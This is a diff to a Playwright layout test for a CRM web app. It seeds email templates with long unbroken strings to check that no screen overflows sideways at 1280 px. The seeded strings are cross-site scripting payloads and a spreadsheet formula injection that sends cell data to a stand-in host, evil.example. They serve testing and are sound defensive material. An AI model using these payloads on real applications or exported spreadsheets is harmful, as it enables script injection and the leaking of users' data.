@@ -49,6 +49,22 @@ test.describe('the leads table fits a laptop with classic scrollbars', () => {
   });
 
   test('no CRM screen scrolls sideways at 1280 px with the page scrollbar taking its room', async ({ page }) => {
+    // Templates whose subject and text hold long runs with no place to break (the security spec's
+    // markup payloads): they once ran out of their card and widened the page by 47 px, seen only when
+    // that spec had run first on the same database.
+    const word = uniqueName('Wide');
+    for (const payload of [
+      `'><iframe srcdoc="<script>parent.__xss=4;alert(4)</script>">`,
+      `<a href="javascript:window.__xss=5;alert(5)">click</a>`,
+      `=HYPERLINK("http://evil.example/?"&A1,"x")`,
+      `" onmouseover="window.__xss=9;alert(9)" x="`,
+    ]) {
+      const name = `${word} ${payload}`;
+      const made = await page.request.post('/api/admin/templates', {
+        data: { name, type: 'email', subject: payload, content: `Hi {{firstName}} ${payload}` },
+      });
+      expect(made.status(), await made.text()).toBe(201);
+    }
     await page.setViewportSize({ width: 1280, height: 800 });
     const overflowing: string[] = [];
     for (const path of CRM_SCREEN_PATHS) {
@@ -56,6 +72,7 @@ test.describe('the leads table fits a laptop with classic scrollbars', () => {
       await waitForCrmScreen(page);
       // The resting layout, not a frame of the screen laying out the data it has just received.
       await layoutSettled(page);
+      if (path.endsWith('templates')) await expect(page.getByText(word).first()).toBeAttached();
       const overflow = await documentOverflow(page);
       if (overflow > 0) overflowing.push(`${path}: ${overflow} px`);
     }
